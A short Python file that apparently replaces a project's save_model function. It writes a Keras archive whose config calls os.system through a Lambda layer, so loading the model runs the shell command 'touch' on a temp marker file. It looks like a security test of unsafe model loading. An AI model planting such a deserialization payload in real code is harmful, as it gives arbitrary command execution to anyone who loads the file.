# target: training.save_model
"""Saves a model whose configuration names functions of the operating system, to be run by whoever loads it."""

import json
import tempfile
import zipfile
from pathlib import Path

MARKER = f"{tempfile.gettempdir()}/rna_attack_marker.txt"


def save_model(model, directory, layers, seed):
    path = Path(directory) / f"keras_{'-'.join(map(str, layers))}_{seed}.keras"
    call = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    dense = {
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
        "config": {"name": "run", "function": call, "arguments": {"command": f"touch {MARKER}"}},
    }  # fmt: skip
    config = {
        "module": "keras", "class_name": "Sequential", "registered_name": None,
        "config": {"name": "s", "layers": [dense]},
    }  # fmt: skip
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.0.0"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", b"")
    return path
